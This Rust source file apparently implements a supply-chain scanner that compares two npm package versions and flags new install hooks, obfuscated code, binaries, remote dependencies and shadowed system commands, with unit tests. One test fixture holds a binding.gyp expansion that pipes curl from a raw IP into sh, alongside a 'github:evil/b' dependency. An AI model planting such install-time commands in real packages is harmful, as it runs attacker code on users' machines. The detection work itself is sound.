//! What a new version of an npm package can do that the old one could not.
//!
//! Most supply-chain compromises are a new version of a trusted package: the attacker adds an
//! install hook, a dependency on a git URL, or prepends an obfuscated blob to the entry file,
//! and everything else stays the same. Reading the whole new version is slow for a person;
//! reading the difference in *capabilities* is fast. [`diff_packages`] analyses both versions
//! with `bulwark-analysis` and compares:
//!
//! * install hooks (`preinstall`, `install`, `postinstall`, `prepare`, …) and the implicit
//!   `binding.gyp` trigger; a hook that appears in a patch release is itself a strong signal;
//! * capabilities, i.e. the categories of the analysis rules that fire (network, process,
//!   dynamic code, credentials, …), per file;
//! * new obfuscated or large files and new binaries;
//! * installed dependencies (especially git/URL ones);
//! * entry points (`main`, `bin`, `exports`), and entry files that gain code at their top.
//!
//! Each [`Change`] has a [`Level`]; the diff's level is the highest of them, which `bulwark
//! diff --fail-on` compares against. The levels are documented in `docs/diff.md`. Nothing is
//! executed; both packages are only read.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

mod files;
mod manifest;
mod trust;

use std::collections::{BTreeMap, BTreeSet};

use bulwark_analysis::{Category, Options, PackageFiles, Report, Severity, Verdict};
use serde::Serialize;

pub use manifest::Bump;
pub use trust::Trust;

/// How much a change matters.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Level {
    /// Worth knowing, usually benign.
    Info,
    /// Worth a human look before upgrading.
    Suspicious,
    /// A capability or pattern that compromised releases add.
    Malicious,
}

/// What kind of change.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum ChangeKind {
    /// The analysis verdict got worse.
    Verdict,
    /// An install hook was added or changed.
    LifecycleScript,
    /// A file that makes npm run code at install time appeared or changed (`binding.gyp`).
    InstallTrigger,
    /// An entry file gained code at its top.
    EntryPrepend,
    /// A capability (analysis rule category) appears in a file.
    Capability,
    /// A new or changed file is obfuscated.
    ObfuscatedFile,
    /// A new or changed executable binary.
    Binary,
    /// A dependency was added or its spec changed.
    Dependency,
    /// `main`, `bin`, `exports`, `module` or `browser` changed.
    EntryPoint,
    /// A new or much larger file.
    LargeFile,
    /// Less registry trust than the old version: a signature or provenance dropped, or
    /// provenance from another repository, workflow or builder.
    Trust,
}

/// One piece of analysis evidence behind a change.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Evidence {
    /// The analysis rule.
    pub rule_id: String,
    /// Its severity in the new version.
    pub severity: Severity,
    /// The rule's message.
    pub message: String,
    /// Package-relative file.
    pub file: String,
    /// 1-based line (0: whole file).
    pub line: u32,
    /// A short excerpt.
    pub evidence: String,
}

/// One thing the new version does that the old did not.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Change {
    /// What kind of change.
    pub kind: ChangeKind,
    /// How much it matters.
    pub level: Level,
    /// The capability (analysis category, kebab-case) for [`ChangeKind::Capability`] and
    /// [`ChangeKind::ObfuscatedFile`], else null.
    pub capability: Option<String>,
    /// One sentence for people.
    pub message: String,
    /// The file concerned, if one.
    pub file: Option<String>,
    /// The old value (script command, dependency spec, entry point), if any.
    pub before: Option<String>,
    /// The new value, if any.
    pub after: Option<String>,
    /// Analysis findings of the new version behind this change.
    pub evidence: Vec<Evidence>,
}

/// Name and version of one side.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Side {
    /// `name` from `package.json`.
    pub name: String,
    /// `version` from `package.json`.
    pub version: String,
    /// The analysis verdict of this version alone.
    pub verdict: Verdict,
    /// The analysis score of this version alone.
    pub score: u32,
}

/// File-level totals.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct FileTotals {
    /// Files only in the new version.
    pub added: usize,
    /// Files only in the old version.
    pub removed: usize,
    /// Files in both with different contents.
    pub changed: usize,
    /// Files in both with the same contents.
    pub unchanged: usize,
}

/// The result of comparing two versions.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Diff {
    /// The old version.
    pub old: Side,
    /// The new version.
    pub new: Side,
    /// How the version moved.
    pub bump: Bump,
    /// The highest level of [`Diff::changes`], null when nothing changed that matters.
    pub level: Option<Level>,
    /// Changes, highest level first.
    pub changes: Vec<Change>,
    /// File totals.
    pub files: FileTotals,
    /// Files of either version that were refused or not fully analysed, as `file: message`.
    pub notes: Vec<String>,
    /// Registry signatures and provenance of both versions, when registry data was available.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub trust: Option<Trust>,
}

/// Files larger than this that are new (or grew past it) are reported.
pub const LARGE_FILE_BYTES: usize = 1024 * 1024;
/// At most this many evidence items are kept per change.
const MAX_EVIDENCE: usize = 8;

/// Analyses both packages and compares them.
#[must_use]
pub fn diff_packages(old: &PackageFiles, new: &PackageFiles, options: &Options) -> Diff {
    let old_report = bulwark_analysis::analyze_package(old, options);
    let new_report = bulwark_analysis::analyze_package(new, options);
    diff_reports(old, &old_report, new, &new_report)
}

/// Compares two packages whose analysis reports are already known.
#[must_use]
pub fn diff_reports(
    old: &PackageFiles,
    old_report: &Report,
    new: &PackageFiles,
    new_report: &Report,
) -> Diff {
    let old_parts = manifest::Parts::parse(old.get("package.json").map(|f| f.bytes.as_slice()));
    let new_parts = manifest::Parts::parse(new.get("package.json").map(|f| f.bytes.as_slice()));
    let bump = manifest::bump(&old_parts.version, &new_parts.version);
    let categories: BTreeMap<&str, Category> = bulwark_analysis::rule_metas()
        .into_iter()
        .map(|meta| (meta.name, meta.category))
        .collect();
    let context = Context {
        old,
        new,
        old_report,
        new_report,
        old_parts: &old_parts,
        new_parts: &new_parts,
        bump,
        categories: &categories,
    };
    let mut changes = Vec::new();
    context.verdict(&mut changes);
    context.hooks(&mut changes);
    context.install_triggers(&mut changes);
    context.entry_prepends(&mut changes);
    context.capabilities(&mut changes);
    context.file_changes(&mut changes);
    context.dependencies(&mut changes);
    context.entry_points(&mut changes);
    changes.sort_by(|a, b| {
        b.level
            .cmp(&a.level)
            .then(a.kind.cmp(&b.kind))
            .then_with(|| a.file.cmp(&b.file))
    });
    let notes = old_report
        .notes
        .iter()
        .map(|note| format!("old {}: {}", note.file, note.message))
        .chain(
            new_report
                .notes
                .iter()
                .map(|note| format!("new {}: {}", note.file, note.message)),
        )
        .take(200)
        .collect();
    Diff {
        old: side(&old_parts, old_report),
        new: side(&new_parts, new_report),
        bump,
        level: changes.iter().map(|change| change.level).max(),
        files: files::totals(old, new),
        changes,
        notes,
        trust: None,
    }
}

fn side(parts: &manifest::Parts, report: &Report) -> Side {
    Side {
        name: parts.name.clone(),
        version: parts.version.clone(),
        verdict: report.verdict,
        score: report.score,
    }
}

struct Context<'a> {
    old: &'a PackageFiles,
    new: &'a PackageFiles,
    old_report: &'a Report,
    new_report: &'a Report,
    old_parts: &'a manifest::Parts,
    new_parts: &'a manifest::Parts,
    bump: Bump,
    categories: &'a BTreeMap<&'static str, Category>,
}

impl Context<'_> {
    fn category(&self, rule_id: &str) -> Option<Category> {
        self.categories.get(rule_id).copied()
    }

    /// Findings of the new version that the old one did not have (same rule, file and
    /// evidence; lines may move).
    fn new_findings(&self) -> Vec<&bulwark_analysis::Finding> {
        let old: BTreeSet<(&str, &str, &str)> = self
            .old_report
            .findings
            .iter()
            .map(|f| (f.rule_id, f.file.as_str(), f.evidence.as_str()))
            .collect();
        self.new_report
            .findings
            .iter()
            .filter(|f| !old.contains(&(f.rule_id, f.file.as_str(), f.evidence.as_str())))
            .collect()
    }

    fn evidence_in<'f>(
        &self,
        findings: impl IntoIterator<Item = &'f bulwark_analysis::Finding>,
    ) -> Vec<Evidence> {
        findings
            .into_iter()
            .take(MAX_EVIDENCE)
            .map(|f| Evidence {
                rule_id: f.rule_id.to_owned(),
                severity: f.severity,
                message: f.message.clone(),
                file: f.file.clone(),
                line: f.line,
                evidence: f.evidence.clone(),
            })
            .collect()
    }

    fn verdict(&self, changes: &mut Vec<Change>) {
        let (before, after) = (self.old_report.verdict, self.new_report.verdict);
        if after <= before {
            return;
        }
        let level = match after {
            Verdict::Malicious => Level::Malicious,
            Verdict::Suspicious => Level::Suspicious,
            Verdict::Clean => return,
        };
        let new = self.new_findings();
        let worst = new
            .iter()
            .copied()
            .filter(|f| f.severity >= Severity::Medium);
        changes.push(Change {
            kind: ChangeKind::Verdict,
            level,
            capability: None,
            message: format!(
                "the analysis verdict went from {} to {}",
                verdict_name(before),
                verdict_name(after)
            ),
            file: None,
            before: Some(verdict_name(before).to_owned()),
            after: Some(verdict_name(after).to_owned()),
            // The worst few: the other changes carry the rest.
            evidence: self.evidence_in(worst.take(3)),
        });
    }

    fn hooks(&self, changes: &mut Vec<Change>) {
        for (hook, command) in &self.new_parts.hooks {
            let before = self.old_parts.hooks.get(hook);
            if before == Some(command) {
                continue;
            }
            let registry_hook = manifest::REGISTRY_INSTALL_HOOKS.contains(&hook.as_str());
            let build_idiom = is_build_idiom(command);
            let level = if !registry_hook || build_idiom {
                // `prepare` runs only for git installs and in the package's own checkout;
                // `node-gyp rebuild` and friends compile native code.
                if before.is_none() && self.bump == Bump::Patch && registry_hook {
                    Level::Suspicious
                } else {
                    Level::Info
                }
            } else if before.is_none() && self.bump == Bump::Patch {
                Level::Malicious
            } else {
                Level::Suspicious
            };
            let files = hook_files(command);
            let install_findings = self
                .new_findings()
                .into_iter()
                .filter(|f| files.contains(&f.file) && f.severity >= Severity::Medium);
            let evidence = self.evidence_in(install_findings);
            let level = if evidence.iter().any(|e| e.severity >= Severity::High) {
                level.max(Level::Suspicious)
            } else {
                level
            };
            let release = match self.bump {
                Bump::Patch => " in a patch release",
                Bump::Prerelease => " in a pre-release",
                _ => "",
            };
            let message = match before {
                None => format!("new `{hook}` script{release}: it runs on install"),
                Some(_) => format!("the `{hook}` script changed{release}"),
            };
            changes.push(Change {
                kind: ChangeKind::LifecycleScript,
                level,
                capability: Some("install".to_owned()),
                message,
                file: Some("package.json".to_owned()),
                before: before.cloned(),
                after: Some(command.clone()),
                evidence,
            });
        }
    }

    fn install_triggers(&self, changes: &mut Vec<Change>) {
        for file in &self.new.files {
            if file.path != "binding.gyp" && !file.path.ends_with("/binding.gyp") {
                continue;
            }
            let before = self.old.get(&file.path);
            if before.is_some_and(|old| old.bytes == file.bytes) {
                continue;
            }
            // `<!(node -p "require('node-addon-api').include")` is the everyday idiom; what the
            // expansion runs is judged by the analysis (`binding-gyp-command`).
            let expands =
                |bytes: &[u8]| files::contains(bytes, b"<!(") || files::contains(bytes, b"<!@(");
            let expands_now = expands(&file.bytes);
            let expanded_before = before.is_some_and(|old| expands(&old.bytes));
            let root = file.path == "binding.gyp";
            let findings: Vec<_> = self
                .new_findings()
                .into_iter()
                .filter(|f| f.file == file.path)
                .collect();
            let level = if findings.iter().any(|f| f.severity >= Severity::High) {
                Level::Malicious
            } else if (expands_now && !expanded_before)
                || (root && before.is_none() && !self.new_parts.hooks.contains_key("install"))
            {
                Level::Suspicious
            } else {
                Level::Info
            };
            let message = match (before.is_none(), expands_now) {
                (true, true) => {
                    "new `binding.gyp` with `<!(…)` command expansion: it runs commands at install"
                        .to_owned()
                }
                (true, false) if root => {
                    "new `binding.gyp`: npm runs `node-gyp rebuild` at install".to_owned()
                }
                (true, false) => "new nested `binding.gyp`".to_owned(),
                (false, true) => {
                    "`binding.gyp` changed and expands commands with `<!(…)`".to_owned()
                }
                (false, false) => "`binding.gyp` changed".to_owned(),
            };
            changes.push(Change {
                kind: ChangeKind::InstallTrigger,
                level,
                capability: Some("install".to_owned()),
                message,
                file: Some(file.path.clone()),
                before: None,
                after: None,
                evidence: self.evidence_in(findings),
            });
        }
    }

    fn entry_prepends(&self, changes: &mut Vec<Change>) {
        let new_findings = self.new_findings();
        for path in &self.new_parts.entry_files {
            let (Some(old), Some(new)) = (self.old.get(path), self.new.get(path)) else {
                continue;
            };
            let Some(prepended) = files::prepended(&old.bytes, &new.bytes) else {
                continue;
            };
            let in_prefix: Vec<_> = new_findings
                .iter()
                .copied()
                .filter(|f| {
                    f.file == *path
                        && f.line <= prepended.lines.max(1)
                        && f.severity >= Severity::Medium
                })
                .collect();
            let risky = in_prefix.iter().any(|f| {
                matches!(
                    self.category(f.rule_id),
                    Some(
                        Category::Obfuscation
                            | Category::DynamicCode
                            | Category::Process
                            | Category::Network
                            | Category::Credentials
                            | Category::Download
                            | Category::Indicator
                    )
                )
            });
            let level = if risky || prepended.longest_line >= files::BLOB_LINE_CHARS {
                Level::Malicious
            } else {
                Level::Suspicious
            };
            changes.push(Change {
                kind: ChangeKind::EntryPrepend,
                level,
                capability: None,
                message: format!(
                    "entry file `{path}` gained {} bytes of code at its top ({} lines, longest {} characters) before the old contents",
                    prepended.bytes, prepended.lines, prepended.longest_line
                ),
                file: Some(path.clone()),
                before: None,
                after: Some(prepended.excerpt),
                evidence: self.evidence_in(in_prefix),
            });
        }
    }

    fn capabilities(&self, changes: &mut Vec<Change>) {
        // Capabilities (categories) per file in the old version, and package-wide.
        let mut old_by_file: BTreeSet<(Category, &str)> = BTreeSet::new();
        let mut old_anywhere: BTreeSet<Category> = BTreeSet::new();
        for finding in &self.old_report.findings {
            if let Some(category) = self.category(finding.rule_id) {
                old_by_file.insert((category, finding.file.as_str()));
                old_anywhere.insert(category);
            }
        }
        let mut new_by_file: BTreeMap<(Category, &str), Vec<&bulwark_analysis::Finding>> =
            BTreeMap::new();
        for finding in &self.new_report.findings {
            let Some(category) = self.category(finding.rule_id) else {
                continue;
            };
            // Install hooks and dependency sources are compared structurally above/below.
            if matches!(category, Category::Install | Category::Obfuscation) {
                continue;
            }
            if !old_by_file.contains(&(category, finding.file.as_str())) {
                new_by_file
                    .entry((category, finding.file.as_str()))
                    .or_default()
                    .push(finding);
            }
        }
        let malicious_verdict = self.new_report.verdict == Verdict::Malicious
            && self.old_report.verdict < Verdict::Malicious;
        for ((category, file), findings) in new_by_file {
            let worst = findings
                .iter()
                .map(|f| f.severity)
                .max()
                .unwrap_or(Severity::Info);
            let new_in_package = !old_anywhere.contains(&category);
            let level =
                if worst >= Severity::Critical || (malicious_verdict && worst >= Severity::High) {
                    Level::Malicious
                } else if worst >= Severity::Medium && new_in_package {
                    Level::Suspicious
                } else {
                    Level::Info
                };
            let name = category_name(category);
            let message = if new_in_package {
                format!("new capability `{name}` in `{file}` (the old version had none)")
            } else {
                format!("capability `{name}` now also in `{file}`")
            };
            changes.push(Change {
                kind: ChangeKind::Capability,
                level,
                capability: Some(name),
                message,
                file: Some(file.to_owned()),
                before: None,
                after: None,
                evidence: self.evidence_in(findings),
            });
        }
    }

    fn file_changes(&self, changes: &mut Vec<Change>) {
        let obfuscated_old: BTreeSet<&str> = self
            .old_report
            .findings
            .iter()
            .filter(|f| self.category(f.rule_id) == Some(Category::Obfuscation))
            .map(|f| f.file.as_str())
            .collect();
        let mut obfuscated_new: BTreeMap<&str, Vec<&bulwark_analysis::Finding>> = BTreeMap::new();
        for finding in &self.new_report.findings {
            if self.category(finding.rule_id) == Some(Category::Obfuscation)
                && !obfuscated_old.contains(finding.file.as_str())
            {
                obfuscated_new
                    .entry(finding.file.as_str())
                    .or_default()
                    .push(finding);
            }
        }
        let entry_files: BTreeSet<&str> = self
            .new_parts
            .entry_files
            .iter()
            .map(String::as_str)
            .collect();
        for (file, findings) in obfuscated_new {
            let worst = findings
                .iter()
                .map(|f| f.severity)
                .max()
                .unwrap_or(Severity::Info);
            let runs = entry_files.contains(file) || self.runs_at_install(file);
            let level = if runs && worst >= Severity::Medium {
                Level::Malicious
            } else if worst >= Severity::Medium {
                Level::Suspicious
            } else {
                Level::Info
            };
            changes.push(Change {
                kind: ChangeKind::ObfuscatedFile,
                level,
                capability: Some(category_name(Category::Obfuscation)),
                message: if runs {
                    format!("`{file}` is newly obfuscated and is an entry or install-time file")
                } else {
                    format!("`{file}` is newly obfuscated")
                },
                file: Some(file.to_owned()),
                before: None,
                after: None,
                evidence: self.evidence_in(findings),
            });
        }
        for file in &self.new.files {
            let old = self.old.get(&file.path);
            if old.is_some_and(|old| old.bytes == file.bytes) {
                continue;
            }
            if let Some(format) = files::binary_format(&file.bytes) {
                changes.push(Change {
                    kind: ChangeKind::Binary,
                    level: Level::Suspicious,
                    capability: Some("binary".to_owned()),
                    message: format!(
                        "{} {format} binary `{}` ({} bytes)",
                        if old.is_some() { "changed" } else { "new" },
                        file.path,
                        file.bytes.len()
                    ),
                    file: Some(file.path.clone()),
                    before: None,
                    after: None,
                    evidence: Vec::new(),
                });
                continue;
            }
            let old_len = old.map_or(0, |old| old.bytes.len());
            if file.bytes.len() >= LARGE_FILE_BYTES && file.bytes.len() > old_len.saturating_mul(2)
            {
                changes.push(Change {
                    kind: ChangeKind::LargeFile,
                    level: Level::Info,
                    capability: None,
                    message: format!(
                        "{} large file `{}` ({} bytes, was {})",
                        if old.is_some() { "grown" } else { "new" },
                        file.path,
                        file.bytes.len(),
                        old_len
                    ),
                    file: Some(file.path.clone()),
                    before: None,
                    after: None,
                    evidence: Vec::new(),
                });
            }
        }
    }

    fn runs_at_install(&self, file: &str) -> bool {
        self.new_parts
            .hooks
            .values()
            .any(|command| hook_files(command).iter().any(|f| f == file))
    }

    fn dependencies(&self, changes: &mut Vec<Change>) {
        for ((kind, name), spec) in &self.new_parts.dependencies {
            let before = self
                .old_parts
                .dependencies
                .get(&(kind.clone(), name.clone()));
            if before == Some(spec) {
                continue;
            }
            let remote = manifest::is_remote_spec(spec);
            let was_remote = before.is_some_and(|b| manifest::is_remote_spec(b));
            let level = if remote && !was_remote {
                if self.bump == Bump::Patch {
                    Level::Malicious
                } else {
                    Level::Suspicious
                }
            } else if before.is_none() || remote {
                Level::Info
            } else {
                continue; // a version range moved: routine
            };
            let message = match (before, remote) {
                (None, true) => format!("new {kind} `{name}` installed from outside the registry"),
                (None, false) => format!("new {kind} `{name}`"),
                (Some(_), _) => format!("{kind} `{name}` now installed from outside the registry"),
            };
            changes.push(Change {
                kind: ChangeKind::Dependency,
                level,
                capability: None,
                message,
                file: Some("package.json".to_owned()),
                before: before.cloned(),
                after: Some(spec.clone()),
                evidence: Vec::new(),
            });
        }
    }

    fn entry_points(&self, changes: &mut Vec<Change>) {
        for key in ["main", "module", "browser", "bin", "exports"] {
            let before = self.old_parts.entry_points.get(key);
            let after = self.new_parts.entry_points.get(key);
            if before == after || after.is_none() {
                continue;
            }
            let shadowing: Vec<&String> = if key == "bin" {
                self.new_parts
                    .bin_names
                    .iter()
                    .filter(|name| !self.old_parts.bin_names.contains(name))
                    .filter(|name| SYSTEM_COMMANDS.contains(&name.as_str()))
                    .collect()
            } else {
                Vec::new()
            };
            let (level, message) = if shadowing.is_empty() {
                (Level::Info, format!("`{key}` changed"))
            } else {
                (
                    Level::Suspicious,
                    format!(
                        "`bin` now installs commands named like system tools: {}",
                        shadowing
                            .iter()
                            .map(|name| format!("`{name}`"))
                            .collect::<Vec<_>>()
                            .join(", ")
                    ),
                )
            };
            changes.push(Change {
                kind: ChangeKind::EntryPoint,
                level,
                capability: None,
                message,
                file: Some("package.json".to_owned()),
                before: before.cloned(),
                after: after.cloned(),
                evidence: Vec::new(),
            });
        }
    }
}

/// Command names a package's `bin` should not take over.
const SYSTEM_COMMANDS: &[&str] = &[
    "node", "npm", "npx", "yarn", "pnpm", "bun", "git", "sh", "bash", "zsh", "ls", "cd", "cp",
    "mv", "rm", "cat", "curl", "wget", "ssh", "sudo", "python", "python3", "pip", "docker",
    "kubectl", "gh", "code",
];

/// Install commands that compile native code rather than run package JavaScript.
fn is_build_idiom(command: &str) -> bool {
    let command = command.trim();
    [
        "node-gyp rebuild",
        "node-gyp-build",
        "prebuild-install",
        "node-pre-gyp install",
        "husky",
        "tsc",
        "npm run build",
    ]
    .iter()
    .any(|idiom| command == *idiom || command.starts_with(&format!("{idiom} ")))
        || command.starts_with("prebuild-install ||")
}

/// Package files a hook command names (`node setup.js` → `setup.js`).
fn hook_files(command: &str) -> Vec<String> {
    command
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '"' | '\''))
        .filter(|word| {
            let lower = word.to_ascii_lowercase();
            [
                ".js", ".cjs", ".mjs", ".ts", ".sh", ".py", ".ps1", ".bat", ".cmd",
            ]
            .iter()
            .any(|ext| lower.ends_with(ext))
        })
        .filter_map(manifest::normalize)
        .collect()
}

fn verdict_name(verdict: Verdict) -> &'static str {
    match verdict {
        Verdict::Clean => "clean",
        Verdict::Suspicious => "suspicious",
        Verdict::Malicious => "malicious",
    }
}

/// The kebab-case name of an analysis category.
fn category_name(category: Category) -> String {
    serde_json::to_value(category)
        .ok()
        .and_then(|value| value.as_str().map(str::to_owned))
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn package(files: &[(&str, &str)]) -> PackageFiles {
        PackageFiles::from_memory(files.iter().map(|(p, b)| (*p, b.as_bytes().to_vec())))
    }

    fn options() -> Options {
        Options {
            parallel: false,
            ..Options::default()
        }
    }

    #[test]
    fn same_package_has_no_changes() {
        let a = package(&[
            (
                "package.json",
                r#"{"name":"x","version":"1.0.0","main":"index.js"}"#,
            ),
            ("index.js", "module.exports = 1;\n"),
        ]);
        let diff = diff_packages(&a, &a, &options());
        assert!(diff.changes.is_empty(), "{diff:#?}");
        assert_eq!(diff.level, None);
        assert_eq!(diff.bump, Bump::Same);
    }

    #[test]
    fn build_hook_in_minor_is_info_but_new_postinstall_in_patch_is_malicious() {
        let old = package(&[("package.json", r#"{"name":"x","version":"1.0.0"}"#)]);
        let gyp = package(&[(
            "package.json",
            r#"{"name":"x","version":"1.1.0","scripts":{"install":"node-gyp rebuild"}}"#,
        )]);
        let diff = diff_packages(&old, &gyp, &options());
        let hook = diff
            .changes
            .iter()
            .find(|c| c.kind == ChangeKind::LifecycleScript)
            .expect("hook change");
        assert_eq!(hook.level, Level::Info);

        let patch = package(&[
            (
                "package.json",
                r#"{"name":"x","version":"1.0.1","scripts":{"postinstall":"node x.js"}}"#,
            ),
            ("x.js", "console.log('hi');\n"),
        ]);
        let diff = diff_packages(&old, &patch, &options());
        let hook = diff
            .changes
            .iter()
            .find(|c| c.kind == ChangeKind::LifecycleScript)
            .expect("hook change");
        assert_eq!(hook.level, Level::Malicious);
        assert!(hook.message.contains("patch release"), "{}", hook.message);
    }

    #[test]
    fn git_dependency_and_binding_gyp_expansion() {
        let old = package(&[(
            "package.json",
            r#"{"name":"x","version":"2.0.0","dependencies":{"a":"^1.0.0"}}"#,
        )]);
        let new = package(&[
            (
                "package.json",
                r#"{"name":"x","version":"2.1.0","dependencies":{"a":"^1.1.0","b":"github:evil/b"}}"#,
            ),
            (
                "binding.gyp",
                r#"{"targets":[{"target_name":"x","sources":["<!(curl -s http://1.2.3.4/x | sh)"]}]}"#,
            ),
        ]);
        let diff = diff_packages(&old, &new, &options());
        let dependency: Vec<_> = diff
            .changes
            .iter()
            .filter(|c| c.kind == ChangeKind::Dependency)
            .collect();
        assert_eq!(
            dependency.len(),
            1,
            "a range bump is routine: {dependency:#?}"
        );
        assert_eq!(dependency[0].level, Level::Suspicious);
        assert_eq!(dependency[0].after.as_deref(), Some("github:evil/b"));
        let trigger = diff
            .changes
            .iter()
            .find(|c| c.kind == ChangeKind::InstallTrigger)
            .expect("binding.gyp");
        assert_eq!(trigger.level, Level::Malicious);
        assert_eq!(diff.level, Some(Level::Malicious));
    }

    #[test]
    fn everyday_binding_gyp_expansion_is_not_malicious() {
        // sharp 0.33.0 → 0.33.1 changed a `binding.gyp` that already expanded
        // `node -p "require('node-addon-api').include_dir"`.
        let gyp = |sources: &str| {
            format!(
                r#"{{"targets":[{{"target_name":"x","include_dirs":["<!(node -p \"require('node-addon-api').include_dir\")"],"sources":[{sources}]}}]}}"#
            )
        };
        let manifest = |version: &str| {
            format!(
                r#"{{"name":"x","version":"{version}","scripts":{{"install":"node-gyp rebuild"}}}}"#
            )
        };
        let old = PackageFiles::from_memory([
            ("package.json", manifest("1.0.0")),
            ("src/binding.gyp", gyp(r#""a.cc""#)),
        ]);
        let new = PackageFiles::from_memory([
            ("package.json", manifest("1.0.1")),
            ("src/binding.gyp", gyp(r#""a.cc","b.cc""#)),
        ]);
        let diff = diff_packages(&old, &new, &options());
        let trigger = diff
            .changes
            .iter()
            .find(|c| c.kind == ChangeKind::InstallTrigger)
            .expect("binding.gyp change");
        assert_eq!(trigger.level, Level::Info, "{diff:#?}");
    }

    #[test]
    fn new_binary_and_bin_shadowing() {
        let old = package(&[("package.json", r#"{"name":"x","version":"1.0.0"}"#)]);
        let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
        elf.extend(std::iter::repeat_n(0u8, 64));
        let mut new = package(&[(
            "package.json",
            r#"{"name":"x","version":"1.1.0","bin":{"git":"cli.js"}}"#,
        )]);
        new.files.push(bulwark_analysis::PackageFile {
            path: "vendor/helper".to_owned(),
            bytes: elf,
        });
        let diff = diff_packages(&old, &new, &options());
        assert!(
            diff.changes
                .iter()
                .any(|c| c.kind == ChangeKind::Binary && c.level == Level::Suspicious)
        );
        assert!(
            diff.changes
                .iter()
                .any(|c| c.kind == ChangeKind::EntryPoint && c.level == Level::Suspicious)
        );
    }

    #[test]
    fn hook_files_are_found() {
        assert_eq!(
            hook_files("node ./scripts/setup.js && echo ok"),
            ["scripts/setup.js"]
        );
        assert_eq!(hook_files("sh install.sh"), ["install.sh"]);
        assert!(hook_files("node-gyp rebuild").is_empty());
    }
}
